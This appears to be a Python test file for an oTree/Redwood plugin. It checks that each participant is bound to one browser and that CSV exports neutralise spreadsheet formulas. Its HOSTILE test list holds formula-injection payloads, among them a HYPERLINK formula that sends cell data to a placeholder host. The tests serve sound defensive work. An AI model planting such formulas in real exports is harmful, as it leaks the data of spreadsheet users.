"""Security options (docs/security.rst): one browser per participant, spreadsheet-safe CSV."""
import csv
import io
import json
import re

import pytest
from asgiref.sync import sync_to_async

from tests import harness
from tests.test_admin import Browser
from tests.test_consumer import APP, started_pair


def db(fn):
    return sync_to_async(fn, thread_sensitive=True)


# ---------------------------------------------------------------- BIND_PARTICIPANT_TO_BROWSER

class CookieClient:
    """A participant socket from a browser that sends ``cookie`` with the handshake."""

    def __init__(self, group_pk, code, cookie=None):
        from channels.testing import WebsocketCommunicator
        from otree.channels.routing import application

        headers = [(b"cookie", cookie.encode())] if cookie else []
        self.comm = WebsocketCommunicator(application, harness.socket_path(APP, group_pk, code), headers=headers)

    async def first_frames(self, n=1, connect=True):
        if connect:
            await self.connect()
        out = []
        for _ in range(n):
            msg = await self.comm.receive_output(10)
            if msg["type"] == "websocket.close":
                return out, msg.get("code")
            out.append(json.loads(msg["text"]))
        return out, None

    async def connect(self):
        connected, _ = await self.comm.connect(timeout=10)
        assert connected

    async def close(self):
        try:
            await self.comm.disconnect()
        except Exception:
            pass


@pytest.fixture
def bind_browsers(settings):
    settings.REDWOOD = dict(getattr(settings, "REDWOOD", None) or {}, BIND_PARTICIPANT_TO_BROWSER=True)


async def test_binding_off_by_default_any_browser_may_connect(make_session, ws):
    _, groups = make_session(APP, 2)
    (gpk, (a, b)), = groups
    await ws(APP, gpk, b)  # a's sockets get the period's state at once
    clients = [CookieClient(gpk, a, "csrftoken=first"), CookieClient(gpk, a, "csrftoken=second"),
               CookieClient(gpk, a)]
    try:
        for c in clients:
            frames, code = await c.first_frames()
            assert code is None and frames[0]["channel"] != "error"
    finally:
        for c in clients:
            await c.close()


async def test_first_browser_keeps_the_participant(make_session, ws, bind_browsers):
    _, groups = make_session(APP, 2)
    (gpk, (a, b)), = groups
    own = CookieClient(gpk, a, "csrftoken=aaaa1111; other=1")
    partner_tab = CookieClient(gpk, a, "csrftoken=bbbb2222")
    no_cookie = CookieClient(gpk, a)
    reload_ = CookieClient(gpk, a, "other=2; csrftoken=aaaa1111")
    b_own = CookieClient(gpk, b, "csrftoken=bbbb2222")
    try:
        await b_own.connect()  # the group starts when a connects
        frames, code = await own.first_frames()
        assert code is None and frames[0]["channel"] == "state"
        # the same participant from another browser: refused, with a reason
        frames, code = await partner_tab.first_frames(2)
        assert code == 4003 and "another browser" in frames[0]["payload"]["reason"]
        frames, code = await no_cookie.first_frames(2)
        assert code == 4003 and "cookies" in frames[0]["payload"]["reason"]
        # a reload in the first browser is the same participant again
        frames, code = await reload_.first_frames()
        assert code is None and frames[0]["channel"] == "state"
        # the binding is per participant: that other browser is b's own
        frames, code = await b_own.first_frames(connect=False)
        assert code is None and frames[0]["channel"] == "state"
    finally:
        for c in (own, partner_tab, no_cookie, reload_, b_own):
            await c.close()


def _page_token(body):
    found = re.search(r"window\.oTree = (\{.*?\});</script>", body.decode("utf-8"), re.S)
    assert found, body[:500]
    config = json.loads(found.group(1))
    return config["socketToken"], config["group"]["pk"]


def _open_page(browser, code):
    """The participant's start link, then the page it redirects to (cookies kept)."""
    path = "/InitializeParticipant/%s" % code
    for _ in range(5):
        status, headers, body = browser.request(path)
        if status not in (301, 302):
            break
        location = headers["Location"]
        path = location if location.startswith("/") else location[len(browser.base):]
    assert status == 200, (status, path)
    return _page_token(body)


@pytest.mark.e2e
async def test_partner_opening_the_start_link_elsewhere_is_refused(server, make_session):
    """A real server and two 'browsers' (cookie jars) that open participant a's start link."""
    import websockets

    srv = server(extra_env={"REDWOOD_BIND_PARTICIPANT_TO_BROWSER": "1"})
    _, groups = make_session(APP, 2)
    (gpk, (a, b)), = groups
    mine, partner = Browser(srv.base), Browser(srv.base)

    async def socket_of(browser, token, group_pk, code=a, wait=True):
        url = "%s/redwood/app-name/%s/group/%s/participant/%s/?token=%s" % (srv.ws_base, APP, group_pk, code, token)
        sock = await websockets.connect(url, extra_headers={"Cookie": browser.cookie_header()}, open_timeout=10)
        first = json.loads(await asyncio_wait(sock.recv(), 10)) if wait else None
        return sock, first

    # b plays in the partner's browser
    token_b, _ = await db(lambda: _open_page(partner, b))()
    b_sock, _ = await socket_of(partner, token_b, gpk, code=b, wait=False)
    token, group_pk = await db(lambda: _open_page(mine, a))()
    assert group_pk == gpk and mine.cookie("csrftoken")
    sock, first = await socket_of(mine, token, group_pk)
    assert first["channel"] == "state"
    # the partner opens a's start link in their browser: oTree serves the
    # page (as it always has), but the socket is refused
    token2, _ = await db(lambda: _open_page(partner, a))()
    assert partner.cookie("csrftoken") != mine.cookie("csrftoken")
    intruder, first2 = await socket_of(partner, token2, group_pk)
    assert first2["channel"] == "error" and "another browser" in first2["payload"]["reason"]
    with pytest.raises(websockets.ConnectionClosed):
        await asyncio_wait(intruder.recv(), 10)
    assert intruder.close_code == 4003
    # a's own browser still plays
    again, first3 = await socket_of(mine, token, group_pk)
    assert first3["channel"] == "state"
    for s in (sock, again, b_sock):
        await s.close()


async def asyncio_wait(coro, timeout):
    import asyncio

    return await asyncio.wait_for(coro, timeout)


# ---------------------------------------------------------------- spreadsheet-safe CSV

HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"help\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\tTAB", "=1"]
NUMBERS = ["-0.5", "+3", "-1e-3", "42"]


def _rows(View, params):
    from django.test import RequestFactory

    response = View.as_view()(RequestFactory().get("/x/", params))
    text = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(text)))


async def test_csv_formula_cells_are_quoted_on_request(make_session, ws, monkeypatch, settings):
    import decision_demo.pages as pages

    from otree_redwood import exports

    def get_output_table_header(groups):
        return ["participant", "note"]

    def get_output_table(events):
        return [[e.participant.code, e.value] for e in events if e.channel == "note"]

    monkeypatch.setattr(pages, "get_output_table", get_output_table, raising=False)
    monkeypatch.setattr(pages, "get_output_table_header", get_output_table_header, raising=False)
    View, = [v for v in exports.app_export_views() if v.app_name == APP]
    session, gpk, a, b, ca, cb = await started_pair(make_session, ws)
    for note in HOSTILE + NUMBERS:
        await ca.send("note", note)
    await ca.send("decisions", -0.25)
    await cb.recv_until(lambda m: m["channel"] == "group_decisions" and m["payload"][a] == -0.25)

    # every note is stored before the map of the decision sent after them is
    # broadcast; the export may read them through another connection, so
    # wait until it shows all of them (one run under load saw half)
    import asyncio

    loop = asyncio.get_event_loop()
    deadline = loop.time() + 30
    while True:
        plain = await db(lambda: _rows(View, {"session": session.code}))()
        if len(plain) - 1 >= len(HOSTILE + NUMBERS) or loop.time() > deadline:
            break
        await asyncio.sleep(0.1)
    assert [r[1] for r in plain[1:]] == HOSTILE + NUMBERS  # as sent, for R and pandas
    safe = await db(lambda: _rows(View, {"session": session.code, "safe": "1"}))()
    assert [r[1] for r in safe[1:]] == ["'" + h for h in HOSTILE] + NUMBERS
    assert safe[0] == ["participant", "note"]

    # the events CSV: numbers stay numbers; the setting makes safe the default
    settings.REDWOOD = dict(getattr(settings, "REDWOOD", None) or {}, CSV_FORMULA_SAFE=True)
    events = await db(lambda: _rows(exports.EventsCSV, {"session": session.code}))()
    header = events[0]
    values = [dict(zip(header, r)) for r in events[1:]]
    decisions = [v["value"] for v in values if v["channel"] == "decisions"]
    assert decisions == ["-0.25"]
    for v in values:
        for cell in v.values():
            assert not cell.startswith(("=", "+", "@", "\t")) or cell.startswith("'")
            assert not cell.startswith("-") or re.match(r"^-[0-9.e-]+$", cell)
    opted_out = await db(lambda: _rows(View, {"session": session.code, "safe": "0"}))()
    assert [r[1] for r in opted_out[1:]] == HOSTILE + NUMBERS


def test_formula_safe_rules():
    from otree_redwood.exports import formula_safe

    assert formula_safe("=cmd") == "'=cmd"
    assert formula_safe("-cmd") == "'-cmd"
    assert formula_safe("\rx") == "'\rx"
    assert formula_safe("-12.5") == "-12.5"
    assert formula_safe("+7") == "+7"
    assert formula_safe("1e5") == "1e5"
    assert formula_safe("a=b") == "a=b"
    assert formula_safe(-3) == -3
    assert formula_safe("") == ""
